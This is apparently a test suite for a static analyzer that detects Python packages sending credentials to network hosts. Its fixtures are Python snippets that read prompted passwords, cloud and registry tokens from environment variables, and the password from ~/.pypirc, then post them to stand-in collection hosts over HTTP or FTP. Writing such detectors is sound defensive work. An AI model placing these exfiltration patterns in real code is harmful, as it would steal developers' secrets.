// Precision that stays sound: attributes stored on a plain object are kept per name,
// the branches of an `if` do not see each other's assignments, and the section names
// listed by a credential file (.pypirc index-servers) say where it is used, not what it is.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

describe("attribute stores on plain objects are field-sensitive", () => {
  const context = (send: string): Record<string, string> => ({
    "pkg/__init__.py": `
      import getpass, json, urllib.request
      class Command:
          def __init__(self, context):
              self.context = context
      class Register(Command):
          def run(self):
              self.context.password = getpass.getpass("Password: ")
              ${send}
    `,
  });

  it("another attribute of the object that holds a password carries nothing", async () => {
    const facts = await analyze(context(`urllib.request.urlopen("https://stats.example.org/", data=json.dumps(self.context.metadata).encode())`));
    expect(flowsOf(facts)).toEqual([]);
  });

  it("the attribute that holds the password is sent", async () => {
    const facts = await analyze(context(`urllib.request.urlopen("https://stats.example.org/", data=self.context.password.encode())`));
    expect(flowsOf(facts)).toEqual(["password-prompt@pkg/__init__.py:7 -> http@pkg/__init__.py:8 https://stats.example.org/ [call]"]);
  });

  it("the whole object sent carries every attribute stored on it", async () => {
    const facts = await analyze(context(`urllib.request.urlopen("https://stats.example.org/", data=json.dumps(vars(self.context)).encode())`));
    expect(flowsOf(facts)).toEqual(["password-prompt@pkg/__init__.py:7 -> http@pkg/__init__.py:8 https://stats.example.org/ [call]"]);
  });

  it("a method of the object may read any of its attributes", async () => {
    const facts = await analyze(context(`urllib.request.urlopen("https://stats.example.org/", data=self.context.export())`));
    expect(flowsOf(facts)).toEqual(["password-prompt@pkg/__init__.py:7 -> http@pkg/__init__.py:8 https://stats.example.org/ [call]"]);
  });

  it("a store through an attribute read earlier is part of the object", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def run(config):
            config.name = "release"
            auth = config.auth
            auth.token = os.environ["GITHUB_TOKEN"]
            requests.post("https://collect.example.org/", json=config.__dict__)
            requests.post("https://collect.example.org/other", data=config.name)
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:5 -> http@pkg/__init__.py:6 https://collect.example.org/ [call]"]);
  });

  it("either of two objects joined at a branch keeps both objects' attributes", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def run(a, b, flag):
            b.key = os.environ["AWS_SECRET_ACCESS_KEY"]
            target = a if flag else b
            requests.post("https://collect.example.org/", data=target.key)
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:3 -> http@pkg/__init__.py:5 https://collect.example.org/ [call]"]);
  });

  it("a client's options stay part of every request it sends", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        s = requests.Session()
        s.params = {"k": os.environ["AWS_SECRET_ACCESS_KEY"]}
        s.get("https://collect.example.org/")
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:3 -> http@pkg/__init__.py:4 https://collect.example.org/ [import]"]);
  });
});

describe("the branches of an if start from the state before it", () => {
  it("a value assigned in one branch is not seen by the next", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def run(flag):
            if flag:
                name = os.environ["NPM_TOKEN"]
                print(len(name))
            else:
                name = "anonymous"
                requests.get("https://collect.example.org/", params={"n": name})
      `,
    });
    expect(flowsOf(facts)).toEqual([]);
  });

  it("after the if, a value from any branch may be there", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        def run(flag, other):
            data = "none"
            if flag:
                data = os.environ["NPM_TOKEN"]
            elif other:
                data = "other"
            requests.post("https://collect.example.org/a", data=data)
            if other:
                extra = os.environ["PYPI_TOKEN"]
            requests.post("https://collect.example.org/b", data=extra)
      `,
    });
    expect(flowsOf(facts)).toEqual([
      "env-secret@pkg/__init__.py:10 -> http@pkg/__init__.py:11 https://collect.example.org/b [call]",
      "env-secret@pkg/__init__.py:5 -> http@pkg/__init__.py:8 https://collect.example.org/a [call]",
    ]);
  });
});

describe("section names listed by a credential file are locators", () => {
  it("a repository URL read from an index-servers section is not the secret", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import configparser, os, requests
        def settings():
            parser = configparser.RawConfigParser()
            parser.read(os.path.expanduser("~/.pypirc"))
            for name in parser.get("distutils", "index-servers").split():
                url = parser.get(name, "repository")
                requests.get("https://upload.pypi.org/legacy/", params={"repo": url})
      `,
    });
    expect(flowsOf(facts)).toEqual([]);
  });

  it("the password of that section is", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import configparser, os, requests
        def settings():
            parser = configparser.RawConfigParser()
            parser.read(os.path.expanduser("~/.pypirc"))
            for name in parser.get("distutils", "index-servers").split():
                requests.get("https://collect.example.org/", params={"p": parser.get(name, "password")})
      `,
    });
    expect(flowsOf(facts)).toEqual(["registry-token@pkg/__init__.py:4 -> http@pkg/__init__.py:6 https://collect.example.org/ [call]"]);
  });
});

describe("a destination computed from the credential's own settings, two calls away", () => {
  it("is still the settings' own host when the URL has unknown parts", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, urllib.parse, requests
        def fetch(profile):
            parts = urllib.parse.urlparse(profile)
            return requests.get("{0}://{1}/.well-known/profile".format(parts.scheme, parts.netloc))
        def expand(cloud):
            return fetch(cloud.get("profile"))
        settings = {k: os.environ[k] for k in os.environ.keys() if k.startswith("OS_")}
        expand(settings)
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-dump@pkg/__init__.py:7 -> http@pkg/__init__.py:4 *://*/.well-known/profile own [import]"]);
  });
});

describe("the login of a connecting client's constructor", () => {
  it("a prompted password given to pysftp.Connection / FTP(host, user, passwd) authenticates", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import ftplib, getpass, pysftp
        def push(host, path):
            with pysftp.Connection(host, username="me", password=getpass.getpass()) as c:
                c.put(path)
            ftp = ftplib.FTP(host, "me", getpass.getpass())
            ftp.storbinary("STOR x", open(path, "rb"))
      `,
    });
    expect(facts.flows.filter((f) => f.use !== "auth")).toEqual([]);
  });

  it("a token given as the FTP password of a fixed foreign server is still a flow", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import ftplib, os
        ftp = ftplib.FTP("ftp.collect.example.org", "drop", os.environ["GITHUB_TOKEN"])
        ftp.storbinary("STOR x", open("setup.py", "rb"))
      `,
    });
    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:2 -> ftp@pkg/__init__.py:3 ftp.collect.example.org [import]"]);
  });
});
